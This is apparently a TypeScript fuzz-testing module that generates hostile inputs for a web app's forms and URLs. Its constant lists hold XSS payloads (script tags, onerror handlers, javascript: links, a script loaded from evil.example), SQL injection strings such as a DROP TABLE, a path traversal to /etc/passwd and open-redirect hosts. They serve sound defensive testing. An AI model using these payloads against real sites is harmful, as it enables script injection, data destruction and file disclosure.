/**
 * Hostile values for the fuzz suite (fast-check arbitraries): what a broken client, a
 * curious visitor or an attacker types into a form field or a URL. Bounded so that the
 * whole suite stays within its time budget: huge strings are rare and at most ~120 kB.
 */
import fc from "fast-check";

/**
 * The run's seed, printed on failure. Fixed by default, so that `npm test` gives the same
 * verdict every time; FUZZ_SEED=… replays a given seed, FUZZ_SEED=random explores a new
 * one each run (with FUZZ_RUNS=10 for a long session).
 */
export const SEED =
  process.env.FUZZ_SEED === "random" ? Date.now() % 2_147_483_647
  : process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED)
  : 20_261_130;
/** FUZZ_RUNS multiplies every route's number of runs (e.g. 10 for a long local session). */
export const RUNS_FACTOR = process.env.FUZZ_RUNS ? Number(process.env.FUZZ_RUNS) : 1;
export const runs = (n: number) => Math.max(1, Math.round(n * RUNS_FACTOR));

/** fast-check parameters for a property of `label`: the run's seed, reported on failure. */
export function params(numRuns: number): fc.Parameters<unknown> {
  return { seed: SEED, numRuns: runs(numRuns), endOnFailure: true, verbose: 1 };
}

export const CONTROL = ["\u0000", "a\u0000b", "\u0000\u0000\u0000", "%00", "\\0", "\u0001\u0007\u0008\u001b[31m", "\u007f\u0085\u009f", "\r", "\r\n\r\n", "\t", "\u000b\u000c"];
export const UNICODE = [
  "\uD800", // lone high surrogate
  "x\uDC00y", // lone low surrogate
  "\uDBFF\uDBFF",
  "\u202Eevil\u202C", // right-to-left override
  "\u2066\u2067\u2068\u2069",
  "\u200B", // zero-width space only
  "\u200B\u200C\u200D\u2060\uFEFF",
  "\u3164\u115F\u2800", // invisible fillers
  "\u0301\u0301\u0301", // combining marks alone
  "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359", // zalgo
  "\uFFFE\uFFFF",
  "👍🏽👨‍👩‍👧‍👦",
  "١٢٣", // Arabic-Indic digits
  "１２３", // full-width digits
  "ﬁ œ ß",
  "\u2028\u2029",
];
export const MARKUP = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe src=javascript:alert(1)></iframe>",
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "[clique](javascript:alert(1))",
  "[clique](JAVASCRIPT:alert(1) \"t\")",
  "[x](jav&#x09;ascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "![x](javascript:alert(1))",
  '![x](x" onerror="alert(1))',
  "[x]: javascript:alert(1)\n\n[y][x]",
  "<javascript:alert(1)>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "[d](data:text/html,<script>alert(1)</script>)",
  "<style>*{display:none}</style>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<!--",
  "]]>",
  "&lt;script&gt;",
  "**gras** _it_ `code` # titre",
];
export const SQLISH = ["' OR '1'='1", "'; DROP TABLE ideas; --", '" OR ""="', "1; DELETE FROM decisions", "%", "_", "%_%", "\\", "' UNION SELECT * FROM users --", "NEAR(a b)", '"unterminated', "a* OR b*", "*", "^", "-", "AND", "OR NOT"];
export const NUMBERISH = ["0x10", "1e1", "-0", "+1", "NaN", "Infinity", "-Infinity", "01", "00", "0", "-1", "1.5", "1,5", "9007199254740993", "99999999999999999999", "1 ", " 1", "1_000", "0b11", "0o7", "١", "１", "2e308", "-9007199254740992"];
export const WORDS = ["", " ", "\n", "null", "undefined", "true", "false", "on", "off", "[object Object]", "__proto__", "constructor", "toString", "hasOwnProperty", "../../etc/passwd", "%2e%2e%2f", "//evil.example", "\\\\evil.example", "/\\evil.example", "http://evil.example/", "https://evil.example/x", "/\t/evil.example", "town", "all", "*", "…", "fr", "en", "xx-YY"];

const constants = [...CONTROL, ...UNICODE, ...MARKUP, ...SQLISH, ...NUMBERISH, ...WORDS];

/** A long string built from a hostile unit, up to ~120 kB. Rare: it costs time. */
const huge = fc
  .tuple(fc.constantFrom("x", "é", "<script>", "\u0000", "👍🏽", "\u200B", "a\n", "[a](javascript:x) ", "\u202E"), fc.integer({ min: 300, max: 120_000 }))
  .map(([unit, chars]) => unit.repeat(Math.max(1, Math.floor(chars / unit.length))));

/** Any code points, lone surrogates included. */
const anyUnicode = fc.string({ unit: "binary", maxLength: 40 });

/** A single hostile value (no valid value mixed in). */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...constants) },
  { weight: 3, arbitrary: anyUnicode },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...constants), fc.constantFrom(...constants)).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: huge },
);

/**
 * A value for a field that has a valid value `valid`: mostly hostile, often the valid value
 * with something hostile put before, inside or after it (so that it passes the checks and
 * gets stored), sometimes the valid value itself.
 */
export function fieldValue(valid: string[], pool: string[] = []): fc.Arbitrary<string> {
  const v = valid.length ? fc.constantFrom(...valid) : fc.constant("");
  const parts: fc.WeightedArbitrary<string>[] = [
    { weight: 4, arbitrary: hostile },
    { weight: 3, arbitrary: v },
    {
      weight: 4,
      arbitrary: fc.tuple(v, hostile, fc.constantFrom("before", "after", "inside")).map(([ok, bad, where]) =>
        where === "before" ? bad + ok : where === "after" ? ok + " " + bad : ok.slice(0, ok.length >> 1) + bad + ok.slice(ok.length >> 1),
      ),
    },
  ];
  if (pool.length) parts.push({ weight: 2, arbitrary: fc.constantFrom(...pool) });
  return fc.oneof(...parts);
}

/** A one-time form token: fresh (as the page gives), missing, malformed, or one used before. */
export const onceToken: fc.Arbitrary<string | null> = fc.oneof(
  { weight: 6, arbitrary: fc.uint8Array({ minLength: 16, maxLength: 16 }).map((b) => Buffer.from(b).toString("base64url")) },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constant("Fuzz_reused_token_00000001") },
  { weight: 2, arbitrary: hostile },
);

/** A query-string or path value: hostile, or one of `pool` (real values), percent-encoded as a browser would. */
export function urlValue(pool: string[] = []): fc.Arbitrary<string> {
  return pool.length ? fc.oneof({ weight: 3, arbitrary: hostile }, { weight: 2, arbitrary: fc.constantFrom(...pool) }) : hostile;
}
